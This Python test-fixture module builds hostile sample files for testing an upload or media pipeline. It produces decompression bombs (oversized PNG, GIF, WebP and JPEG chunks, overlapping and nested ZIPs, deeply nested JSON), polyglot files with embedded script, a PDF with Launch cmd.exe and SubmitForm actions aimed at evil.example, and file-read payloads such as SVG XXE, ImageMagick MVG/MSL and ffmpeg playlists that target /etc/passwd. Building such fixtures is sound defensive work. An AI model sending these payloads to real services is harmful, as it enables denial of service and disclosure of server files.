"""Files that mean harm, for tests: small ones that ask for much, those that are two things at once, and those that
point at other files."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

SECRET = b"ZQSECRET"
SCRIPT = b"<script>ZQSECRET</script>"


def picture(form: str = "PNG", mode: str = "RGB", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    """A plain picture."""
    out = io.BytesIO()
    Image.new(mode, size, "teal").save(out, form, **options)
    return out.getvalue()


def png_with(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG with these chunks behind its head."""
    whole = picture()
    return whole[:33] + b"".join(_chunk(*chunk) for chunk in chunks) + whole[33:]


def apng(frames: int) -> bytes:
    """A PNG that says it moves, of that many pictures."""
    whole = picture(size=(1, 1))
    data = zlib.compress(b"\0\0\0\0")
    control = b"".join(
        _chunk(b"fcTL", struct.pack(">IIIIIHHBB", 2 * n, 1, 1, 0, 0, 0, 1, 0, 0))
        + _chunk(b"fdAT", struct.pack(">I", 2 * n + 1) + data)
        for n in range(1, frames)
    )
    return whole[:33] + _chunk(b"acTL", struct.pack(">II", frames, 0)) + whole[33:-12] + control + whole[-12:]


def gif(frames: int, side: int = 1) -> bytes:
    """A GIF of that many pictures, one pixel each, on a canvas of that side."""
    head = b"GIF89a" + struct.pack("<HH", side, side) + b"\xf0\0\0" + b"\0\0\0\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    one = b"\x21\xf9\x04\x04\x01\0\0\0" + b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0" + b"\x02\x02\x44\x01\0"
    return head + loop + one * frames + b"\x3b"


def webp(frames: int, side: int = 1) -> bytes:
    """A WebP of that many pictures, one pixel each, on a canvas of that side."""
    still = picture("WEBP", size=(1, 1), lossless=True)
    inner = still[12:]
    frame = b"\0" * 6 + b"\0" * 6 + b"\x01\0\0" + b"\0" + inner
    one = b"ANMF" + struct.pack("<I", len(frame)) + frame + b"\0" * (len(frame) % 2)
    edge = (side - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + edge + edge + b"ANIM" + struct.pack("<I", 6) + b"\0" * 6
    body += one * frames
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def jpeg_with(marker: int, body: bytes, times: int) -> bytes:
    """A JPEG with that segment as often behind its first mark."""
    whole = picture("JPEG")
    return whole[:2] + (b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body) * times + whole[2:]


def archive(entries: int = 1, name: str = "{}.txt", body: bytes = b"x") -> bytes:
    """A ZIP of that many files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for n in range(entries):
            made.writestr(name.format(n), body)
    return out.getvalue()


def overlapping(entries: int) -> bytes:
    """A ZIP whose files are all the same bytes: it unpacks to many times what it holds."""
    out = io.BytesIO()
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"\0" * (1 << 20)) + body.flush()
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 1 << 20, 5, 0) + b"a.csv"
    out.write(head + packed)
    start = out.tell()
    for _n in range(entries):
        out.write(
            struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 1 << 20, 5, 0, 0, 0, 0, 0, 0)
        )
        out.write(b"a.csv")
    size = out.tell() - start
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, size, start, 0))
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _pdf(*objects: bytes) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, table, len(objects) + 1, len(out))  # fmt: skip


def pdf_that_acts() -> bytes:
    """A PDF that starts programs, sends forms, opens other files and brings a film and a file along."""
    actions = (
        b"<</S/Launch/F(ZQSECRET.exe)/Win<</F(cmd.exe)/P(/c ZQSECRET)>>>>",
        b"<</S/JavaScript/JS(app.alert\\('ZQSECRET'\\))>>",
        b"<</S/SubmitForm/F(https://evil.example/ZQSECRET)>>",
        b"<</S/ImportData/F(ZQSECRET.fdf)>>",
        b"<</S/GoToR/F(//evil.example/ZQSECRET)/D[0/Fit]>>",
        b"<</S/GoToE/F(ZQSECRET.pdf)/T<</R/C>>>>",
        b"<</S/Rendition/JS(ZQSECRET)/OP 0>>",
    )
    notes = b"".join(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %b>>" % action for action in actions)
    rich = b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</X(ZQSECRET)>>>>"
    attached = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(ZQSECRET)/EF<</F 4 0 R>>>>>>"
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/AA<</WC %b>>/AcroForm<</XFA(ZQSECRET)/Fields[]>>>>" % actions[:2],
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O %b>>/Annots[%b%b%b]>>" % (actions[0], notes, rich, attached),
        b"<</Type/EmbeddedFile/Length 8>>\nstream\nZQSECRET\nendstream",
    )  # fmt: skip


BOMBS: dict[str, Callable[[], bytes]] = {
    "png of notes that unpack": lambda: png_with(*[(b"zTXt", b"k\0\0" + zlib.compress(b"x" * 1_000_000))] * 200),
    "png with a profile that unpacks": lambda: png_with((b"iCCP", b"p\0\0" + zlib.compress(b"x" * 200_000_000))),
    "png with megabytes of places": lambda: png_with((b"eXIf", b"MM\0\x2a\0\0\0\x08" + b"\xff" * 9_000_000)),
    "png that moves 100,000 times": lambda: apng(100_000),
    "gif of 100,000 pictures": lambda: gif(100_000),
    "gif of 100,000 pictures on a wide canvas": lambda: gif(100_000, 7_000),
    "gif of 100,000 pictures on a canvas that fits": lambda: gif(100_000, 3_000),
    "webp of 100,000 pictures": lambda: webp(80_000),
    "webp of 100,000 pictures on a wide canvas": lambda: webp(80_000, 3_000),
    "webp on a canvas of 16,000 x 16,000": lambda: webp(1, 16_000),
    "jpeg with megabytes of places": lambda: jpeg_with(0xE1, b"Exif\0\0MM\0\x2a\0\0\0\x08" + b"\xff" * 65_000, 150),
    "jpeg with megabytes of profile": lambda: jpeg_with(0xE2, b"ICC_PROFILE\0\x01\xff" + b"\xff" * 65_000, 150),
    "jpeg with megabytes of words": lambda: jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SECRET * 8_000, 150),
    "zip of 100,000 files": lambda: archive(100_000, body=b""),
    "zip of files that overlap": lambda: overlapping(9_000),
    "zip in a zip in a zip": lambda: archive(name="r.zip", body=archive(name="r.zip", body=archive())),
    "lists in lists": lambda: b"[" * 3_000_000,
    "objects in objects": lambda: b'{"a":' * 1_000_000,
}
TWO_THINGS: dict[str, Callable[[], bytes]] = {
    "gif and script": lambda: b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert('ZQSECRET')",
    "gif with a script in its note": lambda: picture("GIF", comment=SCRIPT) + SCRIPT,
    "jpeg and archive": lambda: picture("JPEG", comment=SECRET) + archive(name="ZQSECRET"),
    "png and page": lambda: png_with((b"tEXt", b"Comment\0" + SCRIPT)) + SCRIPT,
    "webp and page": lambda: picture("WEBP", xmp=SCRIPT, exif=b"Exif\0\0" + SECRET) + SCRIPT,
    "page that says it is a gif": lambda: b"GIF89a<html>" + SCRIPT,
    "pdf that acts": pdf_that_acts,
    "pdf behind a page": lambda: SCRIPT + pdf_that_acts(),
    "archive behind a pdf": lambda: pdf_that_acts() + archive(name="ZQSECRET"),
}
POINTING: dict[str, Callable[[], bytes]] = {
    "svg with a script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "svg that opens a file": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    ),
    "mvg": lambda: (
        b"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context"
    ),
    "msl": lambda: b'<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>',
    "ephemeral": lambda: b"ephemeral:/etc/passwd",
    "postscript": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
    "playlist": lambda: (
        b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:/etc/passwd|file:///etc/passwd\n#EXT-X-ENDLIST"
    ),
    "list of ffmpeg": lambda: b"ffconcat version 1.0\nfile /etc/passwd\nfile 'http://127.0.0.1/'\n",
    "film that is a playlist": lambda: b"\0\0\0\x18ftypisom" + b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
    "sound that is a playlist": lambda: b"ID3\x04\0\0\0\0\0\0#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd\n",
    "manifest": lambda: b'<?xml version="1.0"?><MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>',
    "tiff": lambda: picture("TIFF"),
    "bitmap": lambda: picture("BMP"),
    "jpeg 2000 that says it is a picture": lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 400,
    "truetype": lambda: b"\0\x01\0\0\0\x0f" + b"\xff" * 400,
    "opentype": lambda: b"OTTO" + b"\xff" * 400,
    "woff": lambda: b"wOF2" + b"\xff" * 400,
    "program": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 400,
    "shortcut": lambda: b"[InternetShortcut]\r\nURL=file://evil.example/a\r\n",
}


ALL = {**BOMBS, **TWO_THINGS, **POINTING}


def credential(deep: int) -> bytes:
    """A badge with that many lists in each other."""
    return (
        b'{"@context":' + b"[" * deep + b"]" * deep + b',"type":' + json.dumps(["VerifiableCredential"]).encode() + b"}"
    )
